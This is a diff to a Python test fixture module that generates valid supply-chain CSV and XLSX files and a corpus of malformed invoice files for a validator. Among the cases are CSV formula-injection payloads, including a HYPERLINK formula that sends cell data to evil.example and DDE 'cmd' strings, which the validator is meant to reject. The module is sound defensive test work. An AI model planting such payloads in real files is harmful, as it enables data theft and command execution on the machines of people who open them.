@@ -9,6 +9,11 @@ All bad inputs are *invoice* files (suite ``BAD_INPUT_SUITE``); ``expected_reaso
 """
 from __future__ import annotations
 
+import codecs
+import csv
+import datetime as dt
+import io
+import random
 from pathlib import Path
 
 BAD_INPUT_SUITE = "invoice"
@@ -56,9 +61,69 @@ TRAVERSAL_NAMES = (
 )
 
 
-def make_bad_inputs(directory: str | Path) -> dict[str, tuple[Path, str | None]]:
-    """Write the bad-input corpus into ``directory`` and return ``{name: (path, expected_reason_code)}``."""
-    raise NotImplementedError
+_BASE_DATE = dt.date(2026, 1, 5)
+_CURRENCIES = ("EUR", "USD", "GBP", "CHF", "SEK", "PLN", "JPY")
+_COUNTRIES = ("DE", "FR", "NL", "PL", "US", "CN", "SE", "IT")
+_NOTES = ("", "", "", 'Teillieferung "A", Rest folgt', "Müller & Söhne – Zahlung 30 Tage", "ok; bitte prüfen", "発注済み")
+
+HEADERS = {
+    "invoice": ["invoice_number", "invoice_date", "due_date", "po_number", "supplier_id", "currency", "amount", "tax_amount", "notes"],
+    "purchase_order": ["po_number", "order_date", "buyer_id", "supplier_id", "currency", "total_amount", "requested_delivery_date", "incoterm"],
+    "shipping_manifest": ["sscc", "shipment_id", "po_number", "ship_date", "carrier", "package_count", "gross_weight_kg", "destination_country"],
+    "compliance_certificate": ["certificate_id", "supplier_id", "product_sku", "standard", "issued_date", "expiry_date", "issuing_body"],
+    "product_file": ["sku", "gtin", "name", "unit_of_measure", "net_weight_kg", "country_of_origin", "hs_code", "list_price", "currency"],
+}
+
+
+def valid_rows(doc_type: str, rows: int, seed: int = 0) -> tuple[list[str], list[list[str]]]:
+    """Header and ``rows`` valid data rows for ``doc_type`` (deterministic for a seed)."""
+    if doc_type not in HEADERS:
+        raise ValueError(f"unknown document type {doc_type!r}; one of {DOC_TYPES}")
+    rng = random.Random(seed)
+    out = []
+    for i in range(rows):
+        day = _BASE_DATE + dt.timedelta(days=i % 300)
+        if doc_type == "invoice":
+            amount = round(rng.uniform(1, 50_000), 2)
+            out.append([
+                f"INV-{seed:02d}{i:08d}", day.isoformat(), (day + dt.timedelta(days=30)).isoformat(), f"PO-{i:08d}",
+                f"SUP-{rng.randrange(1, 500):04d}", rng.choice(_CURRENCIES), f"{amount:.2f}", f"{amount * 0.19:.2f}",
+                rng.choice(_NOTES),
+            ])
+        elif doc_type == "purchase_order":
+            out.append([
+                f"PO-{seed:02d}{i:08d}", day.isoformat(), f"BUY-{rng.randrange(1, 50):03d}", f"SUP-{rng.randrange(1, 500):04d}",
+                rng.choice(_CURRENCIES), f"{rng.uniform(10, 250_000):.2f}", (day + dt.timedelta(days=14)).isoformat(),
+                rng.choice(("", "EXW", "FCA", "DAP", "DDP", "FOB", "CIF")),
+            ])
+        elif doc_type == "shipping_manifest":
+            out.append([
+                f"{340_123_450_000_000_000 + seed * 10_000_000 + i:018d}", f"SHP-{i // 10:07d}", f"PO-{i // 10:08d}",
+                day.isoformat(), rng.choice(("DHL", "DB Schenker", "UPS", "Kuehne+Nagel")), str(rng.randrange(1, 40)),
+                f"{rng.uniform(0.5, 900):.1f}", rng.choice(_COUNTRIES),
+            ])
+        elif doc_type == "compliance_certificate":
+            out.append([
+                f"CERT-{seed:02d}{i:08d}", f"SUP-{rng.randrange(1, 500):04d}", f"SKU-{rng.randrange(1, 10**6):08d}",
+                rng.choice(("ISO 9001", "ISO 14001", "REACH", "RoHS", "CE", "FSC")), day.isoformat(),
+                (day + dt.timedelta(days=3 * 365)).isoformat(), rng.choice(("TÜV SÜD", "Bureau Veritas", "SGS", "DEKRA")),
+            ])
+        else:  # product_file
+            out.append([
+                f"SKU-{seed:02d}{i:08d}", "" if i % 7 == 3 else f"{4_006_381_000_000 + seed * 10_000_000 + i:013d}",
+                f"Edelstahl-Schraube M{rng.randrange(3, 12)} × {rng.randrange(10, 90)} mm, \"DIN 912\"",
+                rng.choice(("EA", "PK", "BOX", "KG")), f"{rng.uniform(0.001, 20):.3f}", rng.choice(_COUNTRIES),
+                rng.choice(("731815", "0901210000", "847130")), f"{rng.uniform(0.05, 900):.2f}", rng.choice(_CURRENCIES),
+            ])
+    return list(HEADERS[doc_type]), out
+
+
+def csv_text(header: list[str], rows: list[list[str]], delimiter: str = ",", line_end: str = "\n") -> str:
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, delimiter=delimiter, lineterminator=line_end)
+    writer.writerow(header)
+    writer.writerows(rows)
+    return buffer.getvalue()
 
 
 def make_valid_file(
@@ -70,5 +135,151 @@ def make_valid_file(
     name: str | None = None,
     seed: int = 0,
 ) -> Path:
-    """Write a valid ``doc_type`` file of ``rows`` data rows (deterministic for a seed) and return its path."""
-    raise NotImplementedError
+    """Write a valid ``doc_type`` file of ``rows`` data rows (deterministic for a seed) and return its path.
+
+    CSV is written in blocks, so a few million rows are fine (about 4 s per million on this machine).
+    """
+    directory = Path(directory)
+    directory.mkdir(parents=True, exist_ok=True)
+    path = directory / (name or f"{doc_type}_{rows}.{fmt}")
+    if fmt == "xlsx":
+        header, data = valid_rows(doc_type, rows, seed)
+        _write_xlsx(path, header, data)
+        return path
+    if fmt != "csv":
+        raise ValueError("fmt must be csv or xlsx")
+    block = 100_000
+    with open(path, "w", encoding="utf-8", newline="") as fh:
+        writer = csv.writer(fh, lineterminator="\n")
+        writer.writerow(HEADERS[doc_type])
+        for start in range(0, rows, block):
+            _, data = valid_rows(doc_type, min(block, rows - start), seed)
+            if start:  # keep keys unique across blocks: rows of later blocks get the next numbers
+                data = _renumber(doc_type, data, start, seed)
+            writer.writerows(data)
+    return path
+
+
+def _renumber(doc_type: str, data: list[list[str]], start: int, seed: int) -> list[list[str]]:
+    for offset, row in enumerate(data):
+        i = start + offset
+        if doc_type == "invoice":
+            row[0], row[3] = f"INV-{seed:02d}{i:08d}", f"PO-{i:08d}"
+        elif doc_type == "purchase_order":
+            row[0] = f"PO-{seed:02d}{i:08d}"
+        elif doc_type == "shipping_manifest":
+            row[0], row[1], row[2] = f"{340_123_450_000_000_000 + seed * 10_000_000 + i:018d}", f"SHP-{i // 10:07d}", f"PO-{i // 10:08d}"
+        elif doc_type == "compliance_certificate":
+            row[0] = f"CERT-{seed:02d}{i:08d}"
+        else:
+            row[0] = f"SKU-{seed:02d}{i:08d}"
+            row[1] = "" if i % 7 == 3 else f"{4_006_381_000_000 + seed * 10_000_000 + i:013d}"
+    return data
+
+
+def _write_xlsx(path: Path, header: list[str], rows: list[list], formula_cells: dict[tuple[int, int], str] | None = None) -> None:
+    from openpyxl import Workbook
+
+    workbook = Workbook(write_only=True)
+    sheet = workbook.create_sheet("Sheet1")
+    sheet.append(header)
+    for r, row in enumerate(rows):
+        values = [v if v != "" else None for v in row]
+        for (fr, fc), formula in (formula_cells or {}).items():
+            if fr == r:
+                values[fc] = formula
+        sheet.append(values)
+    workbook.save(path)
+
+
+def make_bad_inputs(directory: str | Path) -> dict[str, tuple[Path, str | None]]:
+    """Write the bad-input corpus into ``directory`` and return ``{name: (path, expected_reason_code)}``.
+
+    Every file is an invoice file for suite ``invoice``; the expected code is what
+    ``validate_file(path, "invoice").reason_code`` returns (None: the file passes). Decisions shown here:
+    a UTF-8 BOM is accepted (passes); ``-5.00`` in ``amount`` is a number, not a formula cell (it fails
+    ``amount > 0`` instead); the odd-name files are valid and must pass under their odd names.
+    """
+    directory = Path(directory)
+    directory.mkdir(parents=True, exist_ok=True)
+    header, rows = valid_rows("invoice", 12, seed=7)
+    good = csv_text(header, rows)
+    corpus: dict[str, tuple[Path, str | None]] = {}
+
+    def put(name: str, content: bytes | str, expected: str | None, file_name: str | None = None) -> None:
+        path = directory / (file_name or f"{name}.csv")
+        path.write_bytes(content.encode("utf-8") if isinstance(content, str) else content)
+        corpus[name] = (path, expected)
+
+    def with_cell(row: int, column: str, value: str) -> str:
+        changed = [list(r) for r in rows]
+        changed[row][header.index(column)] = value
+        return csv_text(header, changed)
+
+    put("valid", good, None)
+    put("zero_bytes", b"", "zero_bytes")
+    put("empty", "\n  \r\n\t\n", "empty")
+    put("header_only", ",".join(header) + "\n", "header_only")
+    put("header_only_crlf_blank_lines", ",".join(header) + "\r\n\r\n\r\n", "header_only")
+    put("bom", codecs.BOM_UTF8 + good.encode("utf-8"), None)
+    put("crlf_line_endings", csv_text(header, rows, line_end="\r\n"), None)
+    put("blank_lines", good.replace("\n", "\n\n", 3) + "\n\n", None)
+    put("quoted_newline", with_cell(2, "notes", "Zeile 1\nZeile 2"), None)
+    put("non_utf8", with_cell(4, "notes", "Müller, Straße").encode("cp1252"), "not_utf8")
+    put("utf16", good.encode("utf-16"), "not_utf8")
+    put("cut_multibyte", good.encode("utf-8") + "ü".encode("utf-8")[:1], "not_utf8")
+    put("wrong_delimiter", csv_text(header, rows, delimiter=";"), "wrong_delimiter")
+    put("tab_delimited", csv_text(header, rows, delimiter="\t"), "wrong_delimiter")
+    lines = good.rstrip("\n").split("\n")
+    put("truncated_last_row", "\n".join(lines[:-1]) + "\n" + lines[-1][: len(lines[-1]) // 2], "truncated")
+    put("truncated_in_quotes", good + 'INV-0999999999,2026-02-01,2026-03-03,PO-00000001,SUP-0001,EUR,10.00,1.90,"Teil', "truncated")
+    extra = lines[:5] + [lines[5] + ",surplus"] + lines[6:]
+    put("extra_field_middle", "\n".join(extra) + "\n", "field_count_mismatch")
+    short = lines[:5] + [",".join(lines[5].split(",")[:4])] + lines[6:]
+    put("short_row_middle", "\n".join(short) + "\n", "field_count_mismatch")
+    put("bad_quoting", good.replace(lines[3], '"INV"X' + lines[3][5:]), "malformed_csv")
+    missing = header.index("currency")
+    put(
+        "missing_column",
+        csv_text([h for h in header if h != "currency"], [[v for j, v in enumerate(r) if j != missing] for r in rows]),
+        "missing_columns",
+    )
+    put("duplicate_column", csv_text(header + ["amount"], [r + ["1.00"] for r in rows]), "duplicate_columns")
+    # 10 MB on one line, no line break at all: must fail fast without reading it into memory.
+    line = (",".join(header) + ",").encode()
+    put("single_line_10mb", (line * (10 * 1024 * 1024 // len(line) + 1))[: 10 * 1024 * 1024], "line_too_long")
+    put("formula_equals", with_cell(1, "notes", '=HYPERLINK("http://evil.example/?x="&A1,"Details")'), "formula_cells")
+    put("formula_plus", with_cell(2, "supplier_id", "+cmd|' /C calc'!A0"), "formula_cells")
+    put("formula_minus", with_cell(3, "notes", "-2+3+cmd|' /C calc'!A0"), "formula_cells")
+    put("formula_at", with_cell(4, "notes", "@SUM(1+9)*cmd|' /C calc'!A0"), "formula_cells")
+    put("formula_tab", with_cell(5, "notes", "\t=1+1"), "formula_cells")
+    put("negative_amount", with_cell(6, "amount", "-5.00"), "expectations_failed")
+    dup = [list(r) for r in rows]
+    dup[9][0] = dup[2][0]
+    put("duplicate_invoice_number", csv_text(header, dup), "expectations_failed")
+    bad = [list(r) for r in rows]
+    bad[1][header.index("currency")] = "EURO"
+    bad[2][header.index("invoice_date")] = "2026-13-01"
+    bad[3][header.index("amount")] = "12,50"
+    bad[4][header.index("po_number")] = ""
+    put("bad_values", csv_text(header, bad), "expectations_failed")
+
+    xlsx = lambda name: directory / f"{name}.xlsx"  # noqa: E731
+    _write_xlsx(xlsx("xlsx_valid"), header, rows)
+    corpus["xlsx_valid"] = (xlsx("xlsx_valid"), None)
+    _write_xlsx(xlsx("xlsx_formula"), header, rows, {(3, header.index("notes")): "=1+1"})
+    corpus["xlsx_formula"] = (xlsx("xlsx_formula"), "formula_cells")
+    _write_xlsx(xlsx("xlsx_header_only"), header, [])
+    corpus["xlsx_header_only"] = (xlsx("xlsx_header_only"), "header_only")
+    xlsx("xlsx_corrupt").write_bytes(b"PK\x03\x04 this is not really a zip archive")
+    corpus["xlsx_corrupt"] = (xlsx("xlsx_corrupt"), "not_xlsx")
+    xlsx("xlsx_is_csv").write_text(good, encoding="utf-8")
+    corpus["xlsx_is_csv"] = (xlsx("xlsx_is_csv"), "not_xlsx")
+
+    odd_dir = directory / "odd_names"
+    odd_dir.mkdir(exist_ok=True)
+    for i, odd in enumerate(ODD_NAMES):
+        path = odd_dir / odd
+        path.write_text(good, encoding="utf-8")
+        corpus[f"odd_name_{i}"] = (path, None)
+    return corpus
